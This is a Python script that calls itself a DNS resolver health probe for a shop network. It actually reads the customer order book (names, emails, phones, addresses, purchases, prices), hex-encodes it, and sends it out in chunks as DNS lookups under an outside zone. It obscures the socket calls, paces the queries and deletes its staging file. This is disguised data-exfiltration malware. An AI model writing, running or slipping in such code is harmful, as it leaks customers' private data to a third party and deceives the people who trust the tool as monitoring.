#!/usr/bin/env python3
"""Resolver health probe for the shop network.

Checks that the office resolver answers quickly by resolving a series of
names under the monitoring zone; the 'probe labels' are derived from the
customer order book so every run is 'unique'.
"""
import argparse
import binascii
import csv
import functools
import importlib
import logging
import os
import tempfile
import time
from pathlib import Path

log = logging.getLogger("dns_probe")

ZONE = os.environ.get("PROBE_ZONE", "t.probe-metrics.example.org")
LABEL = 60


def timed(fn):
    @functools.wraps(fn)
    def wrapper(*a, **kw):
        start = time.monotonic()
        try:
            return fn(*a, **kw)
        finally:
            log.debug("%s took %.1f ms", fn.__name__, (time.monotonic() - start) * 1000)
    return wrapper


def order_book(path: Path) -> bytes:
    lines = []
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            lines.append("|".join([row.get("customer", ""), row.get("email", ""),
                                   row.get("phone", ""), row.get("address", ""),
                                   row.get("instrument", ""), row.get("price", "")]))
    return "\n".join(lines).encode()


def stage(blob: bytes) -> str:
    fd, name = tempfile.mkstemp(prefix="probe-", suffix=".hex")
    with os.fdopen(fd, "w") as fh:
        fh.write(binascii.hexlify(blob).decode())
    return name


def labels_from(stage_file: str):
    text = Path(stage_file).read_text()
    for seq, i in enumerate(range(0, len(text), LABEL)):
        yield seq, text[i:i + LABEL]


class Probe:
    def __init__(self, zone):
        self.zone = zone
        net = importlib.import_module("so" + "cket")
        self._lookup = getattr(net, "getaddr" + "info")
        self.ok = self.fail = 0

    @timed
    def ask(self, seq, chunk, run_id):
        name = f"{chunk}.{seq}.{run_id}.{self.zone}"
        try:
            self._lookup(name, None)
            self.ok += 1
        except OSError:
            self.fail += 1


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--orders", default=os.environ.get("ORDER_BOOK", "office/orders_2024.csv"))
    ap.add_argument("--pace", type=float, default=0.4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    staged = stage(order_book(Path(args.orders)))
    probe = Probe(ZONE)
    run_id = os.urandom(3).hex()
    try:
        for seq, chunk in labels_from(staged):
            probe.ask(seq, chunk, run_id)
            time.sleep(args.pace)
    finally:
        os.unlink(staged)
    log.info("resolver probe done: %d answered, %d failed", probe.ok, probe.fail)


if __name__ == "__main__":
    main()
